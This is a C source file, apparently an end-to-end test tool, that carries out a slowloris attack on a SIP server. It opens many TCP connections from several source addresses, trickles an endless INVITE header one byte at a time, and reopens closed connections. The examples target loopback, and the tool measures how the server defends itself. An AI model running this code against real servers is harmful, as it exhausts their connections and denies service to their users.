/*
 * slowloris.c - the TCP attack of the e2e tests: many connections to one
 * SIP server, each trickling the bytes of a message that never ends (a
 * header line that grows forever), one byte per connection every
 * INTERVAL ms.  A connection the server closes is opened again at once
 * (-r), as an attacker would.
 *
 *   slowloris -d 127.0.0.1:5060 -s 127.0.0.2,127.0.0.3 -n 100 -i 500 -t 10
 *
 * -n connections per source address (-s, bound before connecting; all on
 * loopback in the tests), -t seconds to run.  At the end it prints one
 * line of key=value figures: attempts, refused (closed by the server
 * before its first byte of ours was a second old), cut (closed later),
 * open (still open at the end), max_open, and the mean and longest life
 * of the connections the server closed after their first second.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SRC 64

static const char head[] = "INVITE sip:victim@127.0.0.1 SIP/2.0\r\n"
			   "Via: SIP/2.0/TCP 127.0.0.1;branch=z9hG4bKslow\r\n"
			   "X-Pad: ";

struct slot {
	int fd;
	struct in_addr src;
	uint64_t born_ms;
	size_t sent;
};

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
}

static struct sockaddr_in dst;
static unsigned long attempts, refused, cut, fails, open_now, max_open;
static uint64_t life_sum, life_max;

static void slot_open(struct slot *s)
{
	struct sockaddr_in me = { .sin_family = AF_INET, .sin_addr = s->src };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	s->fd = -1;
	attempts++;
	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0 ||
	    (connect(fd, (struct sockaddr *)&dst, sizeof(dst)) < 0 &&
	     errno != EINPROGRESS)) {
		if (fd >= 0)
			close(fd);
		fails++;
		return;
	}
	s->fd = fd;
	s->born_ms = now_ms();
	s->sent = 0;
	if (++open_now > max_open)
		max_open = open_now;
}

static void slot_closed(struct slot *s, uint64_t now)
{
	uint64_t life = now - s->born_ms;

	close(s->fd);
	s->fd = -1;
	open_now--;
	if (life < 1000) {
		refused++;
		return;
	}
	cut++;
	life_sum += life;
	if (life > life_max)
		life_max = life;
}

static int parse_sources(char *list, struct in_addr *v)
{
	int n = 0;

	for (char *t = strtok(list, ","); t && n < MAX_SRC;
	     t = strtok(NULL, ","))
		if (inet_pton(AF_INET, t, &v[n]) == 1)
			n++;
	return n;
}

int main(int argc, char **argv)
{
	struct in_addr src[MAX_SRC];
	int n_src = 0, per = 10, interval = 1000, secs = 10, reopen = 0, o;
	char *colon;
	struct rlimit rl;
	struct slot *slots;
	struct pollfd *pf;
	size_t n;
	uint64_t end, next_tick;

	while ((o = getopt(argc, argv, "d:s:n:i:t:r")) != -1) {
		switch (o) {
		case 'd':
			colon = strrchr(optarg, ':');
			if (!colon)
				return 64;
			*colon = '\0';
			dst.sin_family = AF_INET;
			dst.sin_port = htons((uint16_t)atoi(colon + 1));
			if (inet_pton(AF_INET, optarg, &dst.sin_addr) != 1)
				return 64;
			break;
		case 's':
			n_src = parse_sources(optarg, src);
			break;
		case 'n':
			per = atoi(optarg);
			break;
		case 'i':
			interval = atoi(optarg);
			break;
		case 't':
			secs = atoi(optarg);
			break;
		case 'r':
			reopen = 1;
			break;
		default:
			return 64;
		}
	}
	if (!dst.sin_family || n_src == 0 || per < 1 || interval < 1) {
		fprintf(stderr, "usage: slowloris -d IP:PORT -s SRC[,SRC..] "
			"[-n PER_SOURCE] [-i MS] [-t SECONDS] [-r]\n");
		return 64;
	}
	n = (size_t)n_src * (size_t)per;
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < n + 64) {
		rl.rlim_cur = rl.rlim_max < n + 64 ? rl.rlim_max : n + 64;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	slots = calloc(n, sizeof(*slots));
	pf = calloc(n, sizeof(*pf));
	if (!slots || !pf)
		return 1;
	for (size_t i = 0; i < n; i++) {
		slots[i].src = src[i % (size_t)n_src];
		slot_open(&slots[i]);
	}
	end = now_ms() + (uint64_t)secs * 1000u;
	next_tick = now_ms();
	while (now_ms() < end) {
		uint64_t now = now_ms();
		int wait = next_tick > now ? (int)(next_tick - now) : 0;

		for (size_t i = 0; i < n; i++)
			pf[i] = (struct pollfd){ .fd = slots[i].fd,
						 .events = POLLIN };
		if (poll(pf, n, wait > 100 ? 100 : wait) < 0 && errno != EINTR)
			return 1;
		now = now_ms();
		for (size_t i = 0; i < n; i++) {
			char buf[512];

			if (slots[i].fd < 0 || !pf[i].revents)
				continue;
			/* Whatever the server says, it is an end for us. */
			if (read(slots[i].fd, buf, sizeof(buf)) > 0 &&
			    !(pf[i].revents & (POLLHUP | POLLERR)))
				continue;
			slot_closed(&slots[i], now);
		}
		if (now >= next_tick) {
			for (size_t i = 0; i < n; i++) {
				struct slot *s = &slots[i];
				char c;

				if (s->fd < 0) {
					if (reopen)
						slot_open(s);
					continue;
				}
				c = s->sent < sizeof(head) - 1 ? head[s->sent] :
								 'a';
				if (send(s->fd, &c, 1, MSG_NOSIGNAL) == 1)
					s->sent++;
			}
			next_tick = now + (uint64_t)interval;
		}
	}
	printf("attempts=%lu refused=%lu cut=%lu open=%lu max_open=%lu "
	       "connect_failed=%lu life_mean_ms=%llu life_max_ms=%llu\n",
	       attempts, refused, cut, open_now, max_open, fails,
	       (unsigned long long)(cut ? life_sum / cut : 0),
	       (unsigned long long)life_max);
	for (size_t i = 0; i < n; i++)
		if (slots[i].fd >= 0)
			close(slots[i].fd);
	free(slots);
	free(pf);
	return 0;
}
